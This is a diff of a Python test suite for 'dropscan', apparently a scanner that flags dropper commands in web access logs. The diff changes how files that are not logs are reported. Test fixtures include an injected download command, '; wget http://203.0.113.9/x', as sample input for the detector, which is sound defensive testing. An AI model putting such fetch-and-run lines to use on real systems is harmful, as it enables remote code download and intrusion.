@@ -219,17 +219,20 @@ def test_invalid_utf8(scan4, tmp_path):
 
 def test_lines_with_a_lone_cr_are_one_line(scan4, tmp_path):
     # lines end at \n only (like Apache and wc -l); a file of CR-terminated lines is one line,
-    # not a record, and its text is still scanned as a raw line
+    # not a record: no known format, an error when named; with --log-format it is read as one
+    # raw line
     p = write(tmp_path / "access.log", (NORMAL + ATTACK + NORMAL).replace(b"\n", b"\r"))
     r = scan4(p)
-    assert (r.code, r.counts("access.log"), r.hits) == (2, (1, 0, 1), [("access.log", 1, "dropper.wget")])
-    assert r.findings[0]["field"] == "line"
+    assert (r.code, r.counts("access.log"), r.hits) == (2, (0, 0, 0), [])
     assert r.error("access.log").endswith("no known log format matches its first lines (use --log-format)")
+    r = scan4(p, extra=("--log-format", "combined"))
+    assert (r.code, r.counts("access.log"), r.hits) == (2, (1, 0, 1), [("access.log", 1, "dropper.wget")])
+    assert r.findings[0]["field"] == "line" and "no line matches the log format" in r.error("access.log")
 
 
 def test_a_file_of_only_newlines(scan4, tmp_path):
     r = scan4(write(tmp_path / "access.log", b"\n" * 1000))
-    assert (r.code, r.counts("access.log"), r.hits) == (2, (1000, 0, 1000), [])
+    assert (r.code, r.counts("access.log"), r.hits) == (2, (0, 0, 0), [])
     assert "no known log format" in r.error("access.log")
 
 
@@ -262,13 +265,10 @@ def test_files_that_are_not_logs(scan4, tmp_path):
     png = write(tmp_path / "image.log", _png())
     text = write(tmp_path / "notes.log", b"Dear diary,\nthe wget manual says:\n; wget http://203.0.113.9/x\n")
     r = scan4(binary, png, text)
-    lines = binary.read_bytes().count(b"\n") + 1
-    assert r.counts("binary.log") == (lines, 0, lines)
-    assert r.counts("image.log") == (png.read_bytes().count(b"\n") + 1, 0, png.read_bytes().count(b"\n") + 1)
-    assert r.counts("notes.log") == (3, 0, 3)
-    # not being a log is an error, yet the text is scanned as raw lines
-    assert (r.code, r.hits) == (2, [("notes.log", 3, "dropper.wget")])
-    assert r.findings[0]["field"] == "line" and r.findings[0]["egress"][0]["host"] == "203.0.113.9"
+    # named but not a log: an error, and never scanned as raw text (nothing is acted on from it)
+    for name in ("binary.log", "image.log", "notes.log"):
+        assert r.counts(name) == (0, 0, 0)
+    assert (r.code, r.hits) == (2, [])
     for name in ("binary.log", "image.log", "notes.log"):
         assert r.error(name) == f"{tmp_path / name}: no known log format matches its first lines (use --log-format)"
     assert r.stderr.splitlines() == [f"dropscan: error: {e}" for e in r.errors]
@@ -403,8 +403,7 @@ def test_a_line_longer_than_max_line_is_cut_not_lost(scan4, tmp_path, monkeypatc
 def test_a_gzip_bomb_costs_time_not_memory(scan4, tmp_path):
     bomb = write(tmp_path / "access.log.1.gz", gzip.compress(bytes(40 << 20), 9))  # 40 MiB of NULs, one line
     r = scan4(bomb, write(tmp_path / "access.log", ATTACK))
-    assert (r.code, r.counts("access.log.1.gz")) == (2, (1, 0, 1))
-    assert r.hits == [("access.log.1.gz", 1, "unscanned.field-cut"), ("access.log", 1, "dropper.wget")]
+    assert (r.code, r.counts("access.log.1.gz"), r.hits) == (2, (0, 0, 0), [("access.log", 1, "dropper.wget")])
     assert "no known log format" in r.error("access.log.1.gz")
 
 
@@ -471,6 +470,17 @@ def test_one_unreadable_file_does_not_stop_the_others(scan4, tmp_path):
     ]
 
 
+def test_a_walk_skips_what_is_not_a_log_in_every_mode(scan4, tmp_path):
+    logs = tmp_path / "logs"
+    logs.mkdir()
+    write(logs / "access.log", NORMAL + ATTACK)
+    write(logs / "notes.log", b"Dear diary,\n; wget http://203.0.113.9/x\n" * 1000)
+    r = scan4(logs)  # inline, --full, pool, pool --full agree
+    assert (r.code, r.hits, r.errors) == (1, [("access.log", 2, "dropper.wget")], [])
+    (notes,) = [f for f in r.files if f["path"].endswith("notes.log")]
+    assert (notes["status"], notes["skipped"], notes["lines"]) == ("skipped", "not a recognised access log", 0)
+
+
 def test_a_directory_with_no_logs_says_so(scan4, tmp_path):
     (tmp_path / "empty").mkdir()
     write(tmp_path / "empty" / "README", b"nothing here\n")
@@ -492,9 +502,9 @@ def test_a_hostile_directory_through_the_console_entry(tmp_path):
     cmd = [str(exe)] if exe.exists() else [sys.executable, "-c", "from dropscan.cli import main; main()"]
     p = subprocess.run([*cmd, "scan", str(logs), "-f", "jsonl"], capture_output=True, text=True, timeout=120)
     assert p.returncode == 2 and "Traceback" not in p.stderr
+    # found by the walk and not a log: skipped (listed in the summary), not an error
     assert p.stderr.splitlines() == [
         f"dropscan: error: {logs / 'access.log.3.gz'}: truncated gzip data (unexpected end of file)",
-        f"dropscan: error: {logs / 'access.log.2'}: no known log format matches its first lines (use --log-format)",
     ]
     hits = [(os.path.basename(x["log_file"]), x["line_no"]) for x in map(json.loads, p.stdout.splitlines())]
     assert hits == [("access.log.3.gz", 1), ("access.log.1", 2), ("access.log", 2)]
